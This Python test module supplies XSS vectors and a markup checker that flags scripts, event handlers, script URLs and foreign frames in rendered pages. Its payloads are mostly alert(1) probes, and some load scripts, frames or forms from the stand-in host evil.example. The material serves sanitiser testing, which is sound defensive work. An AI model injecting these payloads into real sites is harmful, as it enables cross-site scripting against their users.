"""Well-known XSS vectors, shared by the sanitiser's tests and the rendered-page tests."""

import json
import re
from html.parser import HTMLParser

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<form action="https://evil.example"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    "<!--<script>alert(1)</script>-->",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    '<video><source onerror="alert(1)"></video>',
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
]

EXECUTABLE = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|body|video|textarea)\b"
    r"|\son\w+\s*="
    r"|javascript:|vbscript:|data:text/html|expression\(",
    re.IGNORECASE,
)

# Text fields are not HTML: these must come out as text wherever the field is shown,
# including inside the page's JSON-LD <script> and in feeds.
TEXT_VECTORS = [
    *XSS_VECTORS,
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>alert(1)</script><![CDATA[",
    "{{ request }}{% csrf_token %}",
]

# Addresses a careless template would put into href or src.
URL_VECTORS = [
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
]

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "cite",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcset",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:application", "data:image/svg")
NEVER_ON_A_PAGE = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"}


class ExecutableMarkup(HTMLParser):
    """Collects what a browser could run in a page: every problem as a short string.

    The site's own scripts are files (`<script src="/static/...">`), and its data blocks
    (JSON-LD, the script's words) must parse as JSON, so a "</script>" in a headline
    cannot have ended one.
    """

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.json_ld = None
        self.json_ld_blocks = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        where = f"<{tag} {attrs}>"
        if tag == "script":
            if attributes.get("type") in ("application/ld+json", "application/json"):
                self.json_ld = []
            elif not (attributes.get("src") or "").startswith("/static/"):
                self.problems.append(f"inline or foreign script: {where}")
        if tag in NEVER_ON_A_PAGE:
            self.problems.append(f"element: {where}")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"meta http-equiv: {where}")
        if tag == "form" and not (attributes.get("action") or "").startswith("/"):
            self.problems.append(f"form to elsewhere: {where}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler: {where}")
            if name == "style":
                self.problems.append(f"style attribute: {where}")
            if name in URL_ATTRIBUTES and value:
                # Browsers ignore whitespace and control characters inside the scheme.
                squeezed = "".join(c for c in value if ord(c) > 32).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.problems.append(f"script URL: {where}")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.json_ld is not None:
            self.json_ld.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self.json_ld is not None:
            text = "".join(self.json_ld)
            self.json_ld = None
            try:
                self.json_ld_blocks.append(json.loads(text))
            except ValueError:
                self.problems.append(f"a data block that is not JSON: {text[:200]}")


def executable_markup(html):
    """The problems ExecutableMarkup finds in `html` (an empty list for a safe page)."""
    parser = ExecutableMarkup()
    parser.feed(html)
    parser.close()
    return parser.problems
